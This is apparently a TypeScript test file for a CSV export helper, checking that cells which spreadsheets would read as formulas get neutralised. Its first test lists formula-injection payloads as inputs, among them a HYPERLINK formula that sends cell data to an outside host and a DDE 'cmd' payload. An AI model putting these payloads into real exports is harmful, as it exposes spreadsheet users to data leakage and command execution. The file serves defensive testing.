import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { csvCell, csvLine } from "./csv.ts";

const marks = [..."=+-@|＝－＠,;\"'\t\r\n \u0000\u200B\uFEFF1a课"];
const typed = fc.string({ unit: fc.constantFrom(...marks), maxLength: 8 });

describe("cells of CSV files", () => {
  it("lets no text that a spreadsheet would take for a formula begin as one", () => {
    for (const text of [
      "=1+1",
      '=HYPERLINK("http://other.test?"&A1)',
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(A1:A9)",
      "|calc",
      "＝1+1",
      "－2+3",
      "＠SUM(A1)",
      " =1+1",
      "\t=1+1",
      "\r\n=1+1",
      "\u200B=1+1",
      "\uFEFF=1+1",
      "\u0000=1+1",
      "\tplain",
    ]) {
      const cell = csvCell(text);
      assert.match(cell, /^"'/, JSON.stringify(text));
      assert.ok(read(cell)[0]![0]!.startsWith("'"), JSON.stringify(text));
    }
  });

  it("leaves numbers numbers and words words", () => {
    for (const text of ["-2.5", "+3", "0", "12.3456", "95%", "2026-09-01", "讲座", "a=b", "林知远"]) assert.equal(csvCell(text), text);
    assert.equal(csvCell(undefined), "");
    assert.equal(csvCell(null), "");
  });

  it("keeps each text in its own cell, whatever stands in it", () => {
    fc.assert(
      fc.property(fc.array(fc.array(typed, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 4 }), (rows) => {
        const found = read(rows.map(csvLine).join(""));
        assert.deepEqual(
          found.map((cells) => cells.map((cell) => cell.replace(/^'/, ""))),
          rows.map((cells) => cells.map((cell) => cell.replaceAll("\u0000", "").replace(/^'/, ""))),
        );
        for (const cell of found.flat()) assert.doesNotMatch(cell, /^[\s\p{C}]*[=@]/u);
      }),
      { numRuns: 100 },
    );
  });
});

/** A plain reader of RFC 4180. */
function read(text: string): string[][] {
  const rows: string[][] = [];
  let [cells, cell, quoted]: [string[], string, boolean] = [[], "", false];
  for (let at = 0; at < text.length; at++) {
    const mark = text[at]!;
    if (quoted) {
      if (mark === '"' && text[at + 1] === '"') cell += text[++at]!;
      else if (mark === '"') quoted = false;
      else cell += mark;
    } else if (mark === '"') quoted = true;
    else if (mark === ",") [cell] = ["", cells.push(cell)];
    else if (mark === "\r" && text[at + 1] === "\n") {
      at++;
      cells.push(cell);
      rows.push(cells);
      [cells, cell] = [[], ""];
    } else cell += mark;
  }
  return cell === "" && cells.length === 0 ? rows : [...rows, [...cells, cell]];
}
